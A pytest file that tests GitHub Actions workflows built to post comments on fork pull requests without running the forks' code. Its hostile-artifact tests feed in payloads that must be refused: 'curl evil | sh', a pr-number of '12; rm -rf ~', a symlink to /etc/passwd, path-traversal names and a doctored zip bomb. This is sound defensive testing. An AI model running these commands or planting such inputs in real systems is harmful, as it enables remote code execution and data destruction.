"""Comments on fork pull requests, safely: pull-request.yml builds the comment with a read-only
token and uploads it; pull-request-comment.yml (workflow_run) reads that artifact as hostile
input and posts it, never running the pull request's code.

The steps run as the workflows run them (bash -eo pipefail, or python for `shell: python`),
taken from the YAML. GitHub's API is out of reach here: a stand-in `gh` on PATH answers from a
JSON state (pull requests, comments, artifacts as real zip files) and records every call, so
a test asserts what GitHub would have been asked to post.
"""

from __future__ import annotations

import json
import os
import re
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from conftest import REPO, git
from test_workflows import workflow

PR_WORKFLOW = REPO / ".github/workflows/pull-request.yml"
COMMENT_WORKFLOW = REPO / ".github/workflows/pull-request-comment.yml"
MARKER = "<!-- osaid-diff -->\n"
HEAD_SHA = "3" * 40
FAKE_GH = r'''#!PYTHON
"""A stand-in for the gh CLI's `gh api` (GitHub's REST API is out of reach in the tests)."""
import json, os, subprocess, sys
args = sys.argv[1:]
assert args[0] == "api", args
method, jq, fields, path = "GET", None, [], None
i = 1
while i < len(args):
    a = args[i]
    if a == "--method": method = args[i + 1]; i += 2
    elif a == "--jq": jq = args[i + 1]; i += 2
    elif a == "-F": fields.append(args[i + 1]); i += 2
    elif a == "--paginate": i += 1
    else: path = a; i += 1
state = json.load(open(os.environ["FAKE_GH_STATE"]))
body = None
for f in fields:
    key, _, value = f.partition("=")
    body = open(value[1:], encoding="utf-8").read() if value.startswith("@") else value
with open(os.environ["FAKE_GH_LOG"], "a") as log:
    log.write(json.dumps({"method": method, "path": path, "body": body}) + "\n")
if method != "GET":
    print("{}"); sys.exit(0)
if path.endswith("/zip"):
    sys.stdout.buffer.write(open(state["zips"][path.split("/")[-2]], "rb").read()); sys.exit(0)
key = path.split("?")[0].split("/", 3)[3]  # after repos/<owner>/<repo>/
if key not in state["api"]:
    print("gh: Not Found (HTTP 404)", file=sys.stderr); sys.exit(1)
out = json.dumps(state["api"][key])
if jq:
    out = subprocess.run(["jq", "-r", jq], input=out, capture_output=True, text=True, check=True).stdout
sys.stdout.write(out)
'''


def steps_of(path: Path, job: str) -> list[dict]:
    return workflow(path)["jobs"][job]["steps"]


def resolve(value: str, ctx: dict) -> str:
    """${{ a.b.c }} from ctx (property paths only: what these workflows' env and if use)."""
    def one(m: re.Match) -> str:
        node = ctx
        for part in m.group(1).split("."):
            node = node.get(part, "") if isinstance(node, dict) else ""
        return str(node)
    return re.sub(r"\$\{\{\s*([\w.-]+)\s*\}\}", one, str(value))


def condition(expr: str | None, ctx: dict) -> bool:
    if expr is None:
        return True
    m = re.fullmatch(r"([\w.-]+) != ''", expr.strip())
    assert m, f"the test runner reads only `x != ''` conditions, not {expr!r}"
    return resolve("${{ " + m.group(1) + " }}", ctx) != ""


def run_step(step: dict, ctx: dict, cwd: Path, env: dict) -> subprocess.CompletedProcess:
    """One step as the runner runs it, with its env resolved and its outputs read back into ctx."""
    out = cwd / f"output-{len(ctx['steps'])}"
    out.write_text("", encoding="utf-8")
    step_env = {**env, **{k: resolve(v, ctx) for k, v in step.get("env", {}).items()}, "GITHUB_OUTPUT": str(out)}
    if step.get("shell") == "python":
        script = cwd / "step.py"
        script.write_text(step["run"], encoding="utf-8")
        cmd = [sys.executable, str(script)]
    else:
        cmd = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]]
    r = subprocess.run(cmd, cwd=cwd, env=step_env, capture_output=True, text=True)
    outputs = dict(line.split("=", 1) for line in out.read_text(encoding="utf-8").splitlines() if line)
    if "id" in step:
        ctx["steps"][step["id"]] = {"outputs": outputs}
    return r


class GitHub:
    """The stand-in API's state and the calls made to it."""

    def __init__(self, tmp: Path):
        self.tmp = tmp
        self.bin = tmp / "bin"
        self.bin.mkdir()
        gh = self.bin / "gh"
        gh.write_text(FAKE_GH.replace("PYTHON", sys.executable, 1), encoding="utf-8")
        gh.chmod(0o755)
        self.state = {"api": {}, "zips": {}}
        self.log = tmp / "gh.log"

    def calls(self, method: str | None = None) -> list[dict]:
        if not self.log.exists():
            return []
        calls = [json.loads(line) for line in self.log.read_text(encoding="utf-8").splitlines()]
        return [c for c in calls if method is None or c["method"] == method]

    def run_job(self, run_id: int = 99, head_sha: str = HEAD_SHA, head_branch: str = "fix-typo",
                head_repo: str = "fork-owner/osaid") -> tuple[list[subprocess.CompletedProcess], str]:
        """The comment job of pull-request-comment.yml; returns the steps run and their log."""
        (self.tmp / "state.json").write_text(json.dumps(self.state), encoding="utf-8")
        runner_temp = self.tmp / "runner-temp"
        runner_temp.mkdir(exist_ok=True)
        work = self.tmp / "work"
        work.mkdir(exist_ok=True)
        env = {"PATH": f"{self.bin}:{os.environ['PATH']}", "RUNNER_TEMP": str(runner_temp),
               "FAKE_GH_STATE": str(self.tmp / "state.json"), "FAKE_GH_LOG": str(self.log), "HOME": str(self.tmp)}
        ctx = {"github": {"token": "t0ken", "repository": "osi/osaid", "event": {"workflow_run": {
            "id": run_id, "event": "pull_request", "head_sha": head_sha, "head_branch": head_branch,
            "head_repository": {"full_name": head_repo}}}}, "steps": {}}
        results = []
        for step in steps_of(COMMENT_WORKFLOW, "comment"):
            if not condition(step.get("if"), ctx):
                continue
            r = run_step(step, ctx, work, env)
            results.append(r)
            if r.returncode != 0:
                break
        return results, "".join(r.stdout + r.stderr for r in results)


def artifact(path: Path, members: dict[str, bytes], modes: dict[str, int] | None = None) -> Path:
    """A zip as upload-artifact makes it (files at the top, regular, deflated)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 26, 12, 0, 0))
            info.external_attr = (modes or {}).get(name, stat.S_IFREG | 0o644) << 16
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return path


def pull_request(gh: GitHub, number: int, sha: str = HEAD_SHA, ref: str = "fix-typo",
                 repo: str | None = "fork-owner/osaid", comments: list | None = None) -> None:
    gh.state["api"][f"pulls/{number}"] = {"number": number, "head": {
        "sha": sha, "ref": ref, "repo": None if repo is None else {"full_name": repo}}}
    gh.state["api"][f"issues/{number}/comments"] = comments or []


def with_artifact(gh: GitHub, zip_path: Path, run_id: int = 99, size: int | None = None) -> None:
    gh.state["api"][f"actions/runs/{run_id}/artifacts"] = {"total_count": 1, "artifacts": [
        {"id": 555, "name": "osaid-diff", "expired": False,
         "size_in_bytes": zip_path.stat().st_size if size is None else size}]}
    gh.state["zips"]["555"] = str(zip_path)


def test_the_comment_workflow_runs_nothing_of_the_pull_request():
    """The job that can write has no checkout, no action, no install, no osaid and no git: only
    gh and Python's zipfile on the artifact; and it is triggered by the run of pull-request.yml."""
    wf = workflow(COMMENT_WORKFLOW)
    assert wf["on"] == {"workflow_run": {"workflows": [workflow(PR_WORKFLOW)["name"]], "types": ["completed"]}}
    assert wf["permissions"] == {}
    job, = wf["jobs"].values()
    assert job["permissions"] == {"actions": "read", "pull-requests": "write"}
    assert job["if"] == "github.event.workflow_run.event == 'pull_request'"
    for step in job["steps"]:
        assert "uses" not in step, "no action: nothing that could check out or run the pull request's code"
        for word in ("checkout", "pip", "osaid ", ".venv", "git ", "unzip", "extractall"):
            assert word not in step["run"], f"{step['name']}: {word!r}"
    text = COMMENT_WORKFLOW.read_text(encoding="utf-8")
    assert not re.search(r"secrets\.\w", text)
    assert "head_sha }}" in text and "${{ github.event.workflow_run.head_branch" in text  # the check
    for line in text.splitlines():  # untrusted values reach scripts through env only
        if "${{" in line and "head_branch" in line:
            assert line.strip().startswith(("HEAD_BRANCH:", "group:")), line


def test_no_job_of_the_pull_request_workflow_can_write_or_read_a_secret():
    wf = workflow(PR_WORKFLOW)
    assert "if" not in wf["jobs"]["comment"], "forks' pull requests get their comment built too"
    for name, job in wf["jobs"].items():
        assert "write" not in job["permissions"].values(), name
    text = PR_WORKFLOW.read_text(encoding="utf-8")
    assert not re.search(r"secrets\.\w|secrets: inherit", text), "no secret reaches the pull request's code"
    upload = steps_of(PR_WORKFLOW, "comment")[-1]
    assert upload["uses"].startswith("actions/upload-artifact@")
    assert upload["with"]["name"] == "osaid-diff" and upload["with"]["path"] == "osaid-comment/"


def test_a_fork_pull_request_gets_its_comment_built_and_posted(history_repo, tmp_path):
    """Both halves end to end: the 'Build the comment' step of pull-request.yml on a fixture
    pull request (v0.0.5 -> v0.0.6), zipped as upload-artifact zips osaid-comment/, then the whole
    comment job: the pull request gets exactly that text; on the next push it is updated, and a
    look-alike comment by someone else (with the marker) is left alone."""
    build = next(s for s in steps_of(PR_WORKFLOW, "comment") if s.get("name") == "Build the comment")
    checkout = tmp_path / "checkout"
    git(tmp_path, "clone", "-q", str(history_repo), str(checkout))
    git(checkout, "checkout", "-q", "--detach", "v0.0.6")
    (checkout / ".venv").symlink_to(Path(sys.prefix))
    env = {**os.environ, "BASE_SHA": git(checkout, "rev-parse", "v0.0.5^{commit}").strip(), "PR": "7"}
    r = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", build["run"]],
                       cwd=checkout, env=env, capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    made = checkout / "osaid-comment"
    assert sorted(p.name for p in made.iterdir()) == ["osaid-diff.md", "pr-number"]
    body = (made / "osaid-diff.md").read_text(encoding="utf-8")
    assert body.startswith(MARKER + "**osaid diff**: 12 changes")
    zip_path = artifact(tmp_path / "a.zip", {p.name: p.read_bytes() for p in made.iterdir()})

    gh = GitHub(tmp_path)
    pull_request(gh, 7, comments=[{"id": 1, "user": {"login": "fork-owner"}, "body": MARKER + "fake"}])
    with_artifact(gh, zip_path)
    results, log = gh.run_job()
    assert [r.returncode for r in results] == [0, 0, 0, 0], log
    posts = gh.calls("POST")
    assert [(c["path"], c["body"]) for c in posts] == [("repos/osi/osaid/issues/7/comments", body)]
    assert not gh.calls("PATCH")

    # the next push: our comment exists, it is updated in place (not the look-alike)
    gh.log.unlink()
    gh.state["api"]["issues/7/comments"].append({"id": 42, "user": {"login": "github-actions[bot]"}, "body": body})
    results, log = gh.run_job()
    assert [(c["method"], c["path"]) for c in gh.calls() if c["method"] != "GET"] == \
        [("PATCH", "repos/osi/osaid/issues/comments/42")], log


def test_a_number_that_is_not_the_run_s_pull_request_posts_nothing(tmp_path):
    """The artifact names the pull request; it counts only if that pull request's head is the
    run's commit, branch and repository: a fork cannot make the bot comment on another one."""
    gh = GitHub(tmp_path)
    with_artifact(gh, artifact(tmp_path / "a.zip", {"osaid-diff.md": (MARKER + "hi").encode(), "pr-number": b"8\n"}))
    cases = [
        ("another pull request", dict(sha="4" * 40, ref="main", repo="osi/osaid")),
        ("same branch name, another fork", dict(repo="someone-else/osaid")),
        ("same commit, another branch", dict(ref="other")),
        ("pushed again since", dict(sha="5" * 40)),
        ("its fork was deleted", dict(repo=None)),
    ]
    for why, head in cases:
        pull_request(gh, 8, **head)
        results, log = gh.run_job()
        assert [r.returncode for r in results] == [0, 0, 0], (why, log)
        assert "::warning::nothing posted: the head of pull request #8 is not commit " + HEAD_SHA in log, why
        assert [c["method"] for c in gh.calls()] == ["GET"] * 3, why
        gh.log.unlink()
    # a pull request that does not exist: the check fails, nothing posted
    del gh.state["api"]["pulls/8"]
    results, log = gh.run_job()
    assert results[-1].returncode != 0 and "HTTP 404" in log
    assert all(c["method"] == "GET" for c in gh.calls())


def test_no_artifact_or_an_oversized_one(tmp_path):
    gh = GitHub(tmp_path)
    gh.state["api"]["actions/runs/99/artifacts"] = {"total_count": 0, "artifacts": []}
    results, log = gh.run_job()
    assert [r.returncode for r in results] == [0]
    assert "::notice::no comment to post: run 99 made no osaid-diff artifact" in log
    expired = {"id": 555, "name": "osaid-diff", "expired": True, "size_in_bytes": 10}
    gh.state["api"]["actions/runs/99/artifacts"]["artifacts"].append(expired)
    results, log = gh.run_job()
    assert [r.returncode for r in results] == [0] and "made no osaid-diff artifact" in log

    big = artifact(tmp_path / "big.zip", {"osaid-diff.md": os.urandom(1_100_000), "pr-number": b"7"})
    pull_request(gh, 7)
    for size in (None, 100):  # as GitHub reports it, and under-reported: the file is measured too
        gh.log.unlink()
        with_artifact(gh, big, size=size)
        results, log = gh.run_job()
        assert results[-1].returncode == 1 and "is refused: over 1048576 bytes" in log, log
        assert [c["method"] for c in gh.calls()] == ["GET"] * (1 if size is None else 2)


def _read_step(tmp_path: Path, zip_path: Path) -> tuple[subprocess.CompletedProcess, dict]:
    step = next(s for s in steps_of(COMMENT_WORKFLOW, "comment") if s.get("id") == "read")
    ctx = {"steps": {"download": {"outputs": {"zip": str(zip_path)}}}}
    temp = tmp_path / "runner-temp"
    temp.mkdir(exist_ok=True)
    r = run_step(step, ctx, tmp_path, {"PATH": os.environ["PATH"], "RUNNER_TEMP": str(temp)})
    return r, ctx["steps"]["read"]["outputs"]


GOOD = {"osaid-diff.md": (MARKER + "**osaid diff**: 1 change\n").encode(), "pr-number": b"7\n"}
LINK = stat.S_IFLNK | 0o777


@pytest.mark.parametrize("members, modes, message", [
    ({**GOOD, "run.sh": b"curl evil | sh"}, None, "it must hold exactly osaid-diff.md and pr-number, it holds"),
    ({"osaid-diff.md": GOOD["osaid-diff.md"]}, None, "it holds ['osaid-diff.md']"),
    ({"../osaid-diff.md": GOOD["osaid-diff.md"], "pr-number": b"7"}, None, "it holds ['../osaid-diff.md', 'pr-number']"),
    ({"x/osaid-diff.md": GOOD["osaid-diff.md"], "pr-number": b"7"}, None, "it holds ['x/osaid-diff.md'"),
    ({"osaid-diff.md\n::error::x": b"", "pr-number": b"7"}, None, r"it holds ['osaid-diff.md\n::error::x'"),
    ({**GOOD, "osaid-diff.md": b"/etc/passwd"}, {"osaid-diff.md": LINK}, "osaid-diff.md is not a regular file"),
    ({**GOOD, "pr-number": b"7"}, {"pr-number": stat.S_IFDIR | 0o755}, "pr-number is not a regular file"),
    ({**GOOD, "pr-number": b"12; rm -rf ~"}, None, "pr-number must be a pull-request number (digits), it is b'12; rm -rf ~'"),
    ({**GOOD, "pr-number": b"7\npr=8"}, None, r"it is b'7\npr=8'"),
    ({**GOOD, "pr-number": b"-1"}, None, "it is b'-1'"),
    ({**GOOD, "pr-number": b"0"}, None, "it is b'0'"),
    ({**GOOD, "pr-number": b"007"}, None, "it is b'007'"),
    ({**GOOD, "pr-number": " 7".encode()}, None, "it is b' 7'"),
    ({**GOOD, "pr-number": "٧".encode()}, None, r"it is b'\xd9\xa7'"),  # a digit to Python, not to GitHub
    ({**GOOD, "pr-number": b"12345678901"}, None, "it is b'12345678901'"),
    ({**GOOD, "pr-number": b"7" * 17}, None, "pr-number is over 16 bytes"),
    ({**GOOD, "osaid-diff.md": b"\0" * 300_000}, None, "osaid-diff.md is over 262144 bytes"),  # a zip bomb's way in
    ({**GOOD, "osaid-diff.md": (MARKER + "é" * 65530).encode()}, None, "osaid-diff.md is over 65536 characters"),
    ({**GOOD, "osaid-diff.md": MARKER.encode() + b"\xff\xfe"}, None, "osaid-diff.md is not UTF-8"),
    ({**GOOD, "osaid-diff.md": b"Approved by the maintainers, merge now"}, None,
     "osaid-diff.md does not start with the line <!-- osaid-diff -->"),
    ({**GOOD, "osaid-diff.md": b"x" + MARKER.encode()}, None, "does not start with the line"),
])
def test_a_hostile_artifact_is_refused(tmp_path, members, modes, message):
    """Each way a pull request's code could shape the artifact to reach beyond its own comment:
    refused with one ::error:: line (what it quotes escaped), no output, no comment file."""
    r, outputs = _read_step(tmp_path, artifact(tmp_path / "a.zip", members, modes))
    assert r.returncode == 1
    assert r.stdout.startswith("::error::the osaid-diff artifact is refused: ") and message in r.stdout, r.stdout
    assert r.stdout.count("\n") == 1 and not r.stderr
    assert outputs == {} and not (tmp_path / "runner-temp" / "osaid-comment.md").exists()


def test_a_lying_or_broken_zip_is_refused(tmp_path):
    """A member whose header under-states its size (a zip bomb's trick) is read no further than
    the limit; a file that is not a zip, or an encrypted member, is refused as well."""
    bomb = artifact(tmp_path / "bomb.zip", {**GOOD, "osaid-diff.md": MARKER.encode() + b"a" * 5_000_000})
    raw = bytearray(bomb.read_bytes())
    for m in re.finditer(rb"PK\x01\x02", raw):  # the central directory's entries
        name_len = int.from_bytes(raw[m.start() + 28:m.start() + 30], "little")
        if raw[m.start() + 46:m.start() + 46 + name_len] == b"osaid-diff.md":
            raw[m.start() + 24:m.start() + 28] = (1000).to_bytes(4, "little")  # its uncompressed size
    bomb.write_bytes(bytes(raw))
    with zipfile.ZipFile(bomb) as z:
        assert z.getinfo("osaid-diff.md").file_size == 1000
    r, outputs = _read_step(tmp_path, bomb)
    assert r.returncode == 1 and "osaid-diff.md cannot be read" in r.stdout, r.stdout
    assert outputs == {}

    not_zip = tmp_path / "not.zip"
    not_zip.write_bytes(b"<html>rate limited</html>")
    r, outputs = _read_step(tmp_path, not_zip)
    assert r.returncode == 1 and "is refused: not a zip file" in r.stdout and outputs == {}

    encrypted = artifact(tmp_path / "enc.zip", GOOD)
    raw = bytearray(encrypted.read_bytes())
    for m in re.finditer(rb"PK\x03\x04|PK\x01\x02", raw):  # set the 'encrypted' flag bit
        flag_at = m.start() + (6 if raw[m.start() + 2] == 3 else 8)
        raw[flag_at] |= 1
    encrypted.write_bytes(bytes(raw))
    r, outputs = _read_step(tmp_path, encrypted)
    assert r.returncode == 1 and "cannot be read" in r.stdout and outputs == {}


def test_the_expected_artifact_is_read_exactly(tmp_path):
    """The largest comment GitHub takes, multi-byte, with no final newline: written byte for byte."""
    body = MARKER + "ü" * (65536 - len(MARKER))
    r, outputs = _read_step(tmp_path, artifact(tmp_path / "a.zip", {"osaid-diff.md": body.encode(), "pr-number": b"1234"}))
    assert r.returncode == 0, r.stdout
    comment = Path(outputs["comment"])
    assert outputs["pr"] == "1234" and comment.read_bytes() == body.encode()
